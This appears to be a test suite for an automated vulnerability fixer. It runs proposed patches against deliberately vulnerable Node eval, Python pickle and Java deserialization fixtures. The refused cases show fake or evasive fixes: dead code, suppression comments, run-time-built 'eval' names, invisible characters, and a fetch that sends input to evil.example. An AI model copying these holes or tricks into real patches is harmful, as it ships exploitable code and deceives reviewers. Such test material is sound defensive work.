import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { Finding } from '../../../../src/engine/finding.ts';
import { applyEdits } from '../../../../src/engine/fixes/edits.ts';
import { createFixer, type Fixer } from '../../../../src/engine/fixes/fixer.ts';
import { applyProposed, type ProposedEdit } from '../../../../src/engine/fixes/proposed/change.ts';
import type { Examined } from '../../../../src/engine/fixes/proposed/examine.ts';
import { analyse, engineOptions } from '../../../support/engine.ts';

interface Example {
  readonly path: string;
  readonly text: string;
  readonly vulnClass: string;
  readonly others?: Readonly<Record<string, string>>;
}

const javascript: Example = {
  path: 'price.js',
  vulnClass: 'code-injection',
  text: [
    "const express = require('express');",
    'const app = express();',
    'function total(formula) {',
    '  const amount = eval(formula);',
    '  return Math.round(amount * 100) / 100;',
    '}',
    "app.get('/total', (req, res) => {",
    '  const formula = req.query.formula;',
    '  res.json({ amount: total(formula) });',
    '});',
    "app.get('/rows', (req, res) => res.send(eval(req.query.rows)));",
    '',
  ].join('\n'),
  others: { 'package.json': '{"dependencies":{"express":"4","mathjs":"13"}}' },
};
const python: Example = {
  path: 'shop/views.py',
  vulnClass: 'unsafe-deserialization',
  text: [
    'import pickle',
    'from flask import Flask, request',
    'app = Flask(__name__)',
    '',
    "@app.route('/cart', methods=['POST'])",
    'def cart():',
    '    data = request.get_data()',
    '    items = pickle.loads(data)',
    '    return str(len(items))',
    '',
  ].join('\n'),
  others: { 'requirements.txt': 'flask==3.0\npyyaml==6.0\n', 'shop/money.py': 'RATE = 1\n' },
};
const java: Example = {
  path: 'src/main/java/shop/Carts.java',
  vulnClass: 'unsafe-deserialization',
  text: [
    'package shop;',
    'import java.io.ObjectInputStream;',
    'import javax.servlet.http.HttpServlet;',
    'import javax.servlet.http.HttpServletRequest;',
    'import javax.servlet.http.HttpServletResponse;',
    'public class Carts extends HttpServlet {',
    '  protected void doPost(HttpServletRequest request, HttpServletResponse response) throws java.io.IOException {',
    '    try (ObjectInputStream in = new ObjectInputStream(request.getInputStream())) {',
    '      Object cart = in.readObject();',
    '      response.getWriter().println(String.valueOf(cart).length());',
    '    } catch (ClassNotFoundException e) {',
    '      throw new java.io.IOException(e);',
    '    }',
    '  }',
    '}',
    '',
  ].join('\n'),
  others: { 'pom.xml': '<project><groupId>com.fasterxml.jackson.core</groupId></project>' },
};

let fixer: Fixer;
const targets = new Map<Example, Finding>();
before(async () => {
  fixer = await createFixer(engineOptions);
  for (const example of [javascript, python, java]) {
    const { findings } = await analyse([{ path: example.path, text: example.text }]);
    const target = findings.find(({ vulnClass }) => vulnClass === example.vulnClass);
    targets.set(example, target ?? assert.fail(`nothing is found in ${example.path}`));
  }
});

type Part = Pick<ProposedEdit, 'search' | 'replace'> & { readonly file?: string };

function examined(example: Example, ...edits: readonly Part[]): Promise<Examined> {
  const { path, text, others } = example;
  const target = targets.get(example) ?? assert.fail();
  const change = {
    title: 'Mend it',
    explanation: 'It is mended.',
    strategy: 'model',
    allowed: [path],
    edits: edits.map(({ file = path, search, replace }) => ({ file, search, replace })),
  };
  return fixer.examine(target, change, (file) => (file === path ? text : others?.[file]));
}

const evaluated = '  const amount = eval(formula);';
const loaded = '    items = pickle.loads(data)';
const read = '      Object cart = in.readObject();';

describe('a change that somebody proposed is taken', () => {
  const taken: readonly (readonly [string, Example, Part])[] = [
    ['that reads a number', javascript, { search: evaluated, replace: '  const amount = Number(formula);' }],
    [
      'with a check and an error for what is bad',
      javascript,
      {
        search: evaluated,
        replace:
          "  if (!/^[\\d+*/. -]{1,80}$/.test(formula)) throw new RangeError('Not a formula.');\n  const amount = evaluate(formula);\n",
      },
    ],
    [
      'with a library that the project has',
      javascript,
      { search: evaluated, replace: "  const amount = require('mathjs').evaluate(formula);" },
    ],
    [
      'with a function of its own that is called',
      javascript,
      {
        search: 'function total(formula) {\n  const amount = eval(formula);',
        replace:
          'function parsed(text) {\n  return Number(text);\n}\nfunction total(formula) {\n  const amount = parsed(formula);',
      },
    ],
    [
      'that moves a value through variables',
      javascript,
      { search: evaluated, replace: '  const text = formula;\n  const amount = +text;\n  check(amount);' },
    ],
    [
      'in Python, with the standard library',
      python,
      { search: loaded, replace: '    import json\n    items = json.loads(data)' },
    ],
    [
      'in Python, with a module of the project',
      python,
      { search: loaded, replace: '    from shop.money import RATE\n    items = [RATE, len(data)]' },
    ],
    [
      'in Java, with a library that the project has',
      java,
      {
        search: `    try (ObjectInputStream in = new ObjectInputStream(request.getInputStream())) {\n${read}`,
        replace:
          '    try (java.io.InputStream in = request.getInputStream()) {\n      Object cart = new com.fasterxml.jackson.databind.ObjectMapper().readTree(in);',
      },
    ],
  ];
  for (const [what, example, edit] of taken) {
    it(what, async () => {
      const result = await examined(example, edit);
      assert.equal(result.type, 'candidate', JSON.stringify(result));
      if (result.type !== 'candidate') return;
      const [change] = result.candidate.changes;
      assert.equal(
        change.after,
        example.text.replace(edit.search, () => edit.replace),
      );
      assert.equal(applyEdits(change.before, change.edits), change.after);
      assert.deepEqual(change.syntaxErrors, { before: 0, after: 0 });
    });
  }
});

describe('a change that somebody proposed is refused', () => {
  const refused: readonly (readonly [string, Example, Part | readonly Part[], RegExp])[] = [
    [
      'that deletes the call',
      javascript,
      { search: evaluated, replace: '  const amount = 0;' },
      /not used any more/,
    ],
    [
      'that comments it out',
      javascript,
      { search: evaluated, replace: '  const amount = 1; // eval(formula)' },
      /not used/,
    ],
    [
      'that deletes the function',
      javascript,
      {
        search: javascript.text.slice(
          javascript.text.indexOf('function total'),
          javascript.text.indexOf("app.get('/total"),
        ),
        replace: '',
      },
      /takes total out/,
    ],
    [
      'that deletes a route',
      javascript,
      { search: "app.get('/rows', (req, res) => res.send(eval(req.query.rows)));\n", replace: '' },
      /more code out/,
    ],
    [
      'that answers nothing instead',
      javascript,
      { search: `${evaluated}\n  return Math.round(amount * 100) / 100;`, replace: '  return [formula];' },
      /takes most of total out/,
    ],
    [
      'that never reaches it',
      javascript,
      { search: evaluated, replace: `  return Number(formula);\n${evaluated}` },
      /never reached/,
    ],
    [
      'that switches it off',
      javascript,
      { search: evaluated, replace: '  let amount = [formula];\n  if (false) amount = eval(formula);' },
      /always has the same outcome/,
    ],
    [
      'that switches it off in a condition',
      javascript,
      {
        search: evaluated,
        replace: '  let amount = [formula];\n  if (amount && false) amount = eval(formula);',
      },
      /always has the same outcome/,
    ],
    [
      'that moves it into a function that nothing calls',
      javascript,
      {
        search: evaluated,
        replace: '  const amount = Number(formula);\n  function unused(text) { return eval(text); }',
      },
      /adds unused .* nothing calls/,
    ],
    [
      'that has checks look away',
      javascript,
      { search: evaluated, replace: '  const amount = Number(formula); // eslint-disable-line' },
      /look away/,
    ],
    [
      'that hides the call behind a name made at run time',
      javascript,
      { search: evaluated, replace: "  const amount = globalThis['ev' + 'al'](formula);" },
      /put together while the program runs/,
    ],
    [
      'with characters that nobody sees',
      javascript,
      { search: evaluated, replace: '  const amount = Number(formula /* \u202e */);' },
      /nobody sees/,
    ],
    [
      'with an address',
      javascript,
      {
        search: evaluated,
        replace: "  fetch('https://evil.example/' + formula);\n  const amount = Number(formula);",
      },
      /evil\.example/,
    ],
    [
      'with what was held back',
      javascript,
      { search: evaluated, replace: "  const amount = Number(formula + 'sk-1…');" },
      /held back/,
    ],
    [
      'with a package that the project does not have',
      javascript,
      { search: evaluated, replace: "  const amount = require('safe-eval-pro')(formula);" },
      /safe-eval-pro.*does not have/,
    ],
    [
      'with a file that is not there',
      javascript,
      { search: evaluated, replace: "  const amount = require('./safe')(formula);" },
      /\.\/safe/,
    ],
    ['that changes nothing', javascript, { search: evaluated, replace: evaluated }, /as it is/],
    [
      'of text that is not there',
      javascript,
      { search: 'const nothing = 1;', replace: 'x' },
      /character by character/,
    ],
    ['of no text', javascript, { search: '', replace: 'x' }, /character by character/],
    ['of text that is there twice', javascript, { search: 'amount', replace: 'sum' }, /more than once/],
    [
      'that contradicts itself',
      javascript,
      [
        { search: evaluated, replace: '  const amount = Number(formula);' },
        { search: 'eval(formula);\n  return', replace: 'Number(formula);\n  return' },
      ],
      /overlap/,
    ],
    [
      'of another file',
      javascript,
      { file: 'package.json', search: '"express":"4"', replace: '"express":"5"' },
      /not among the files/,
    ],
    [
      'of a file above',
      javascript,
      { file: '../price.js', search: evaluated, replace: '' },
      /not among the files/,
    ],
    [
      'of the same file by another name',
      javascript,
      { file: './price.js', search: evaluated, replace: '' },
      /not among the files/,
    ],
    [
      'of an ignore file',
      javascript,
      { file: '.parapetignore', search: 'x', replace: 'price.js' },
      /not among the files/,
    ],
    [
      'that adds far too much',
      javascript,
      { search: evaluated, replace: `  const amount = Number(formula);\n${'  // and more\n'.repeat(2_000)}` },
      /more than 20,000/,
    ],
    [
      'in Python, that deletes the call',
      python,
      { search: loaded, replace: '    items = []' },
      /not used any more/,
    ],
    [
      'in Python, that passes',
      python,
      {
        search: '    data = request.get_data()\n    items = pickle.loads(data)\n    return str(len(items))',
        replace: '    pass',
      },
      /takes most of cart out/,
    ],
    [
      'in Python, by getattr',
      python,
      { search: loaded, replace: "    items = getattr(pickle, 'lo' + 'ads')(data)" },
      /put together while/,
    ],
    [
      'in Python, with “if False”',
      python,
      { search: loaded, replace: '    items = [data]\n    if False:\n        items = pickle.loads(data)' },
      /same outcome/,
    ],
    [
      'in Python, with a package that the project does not have',
      python,
      { search: loaded, replace: '    import safepickle\n    items = safepickle.loads(data)' },
      /safepickle/,
    ],
    ['in Python, with “nosec”', python, { search: loaded, replace: `${loaded}  # nosec` }, /look away/],
    [
      'in Java, with @SuppressWarnings',
      java,
      { search: '  protected void doPost', replace: '  @SuppressWarnings("all")\n  protected void doPost' },
      /look away/,
    ],
    [
      'in Java, by reflection',
      java,
      { search: read, replace: '      Object cart = in.getClass().getMethod("read" + "Object").invoke(in);' },
      /put together while/,
    ],
    [
      'in Java, with a library that the project does not have',
      java,
      {
        search: 'import java.io.ObjectInputStream;',
        replace: 'import java.io.ObjectInputStream;\nimport org.safe.Reader;',
      },
      /org\.safe\.Reader/,
    ],
    [
      'in Java, that takes the method out',
      java,
      {
        search: java.text.slice(java.text.indexOf('  protected void'), java.text.lastIndexOf('}')),
        replace: '',
      },
      /takes doPost out/,
    ],
  ];
  for (const [what, example, edits, why] of refused) {
    it(what, async () => {
      const result = await examined(example, ...(Array.isArray(edits) ? edits : [edits as Part]));
      assert.equal(result.type, 'refused');
      if (result.type === 'refused') assert.match(result.reasons.join('\n'), why);
    });
  }

  it('where a bracket is missing: the file does not parse any more', async () => {
    const result = await examined(javascript, {
      search: evaluated,
      replace: '  const amount = Number(formula;',
    });
    assert.ok(result.type === 'candidate');
    assert.ok(result.candidate.changes[0].syntaxErrors.after > 0);
  });
});

describe('proposed replacements', () => {
  it('come to the same text as told line by line, with the line ends of the file', () => {
    const line = fc.string({ unit: fc.constantFrom('a', 'b', ' ', '(', ')'), maxLength: 6 });
    fc.assert(
      fc.property(
        fc.array(line, { minLength: 1, maxLength: 12 }),
        fc.array(line, { maxLength: 4 }),
        fc.nat(),
        fc.boolean(),
        (lines, added, seed, isWindows) => {
          const marked = lines.map((text, index) => `${index}:${text}`);
          const eol = isWindows ? '\r\n' : '\n';
          const from = seed % marked.length;
          const search = marked.slice(from, from + 2).join('\n');
          const text = marked.join(eol) + eol;
          const result = applyProposed('a.js', text, [{ file: 'a.js', search, replace: added.join('\n') }]);
          if ('fault' in result) {
            assert.equal(search, added.join('\n'));
            return;
          }
          assert.equal(applyEdits(text, result.edits), result.after);
          assert.equal(
            result.after,
            text.replace(search.replaceAll('\n', eol), () => added.join(eol)),
          );
          if (isWindows) assert.doesNotMatch(result.after, /(?<!\r)\n/);
        },
      ),
    );
  });
});
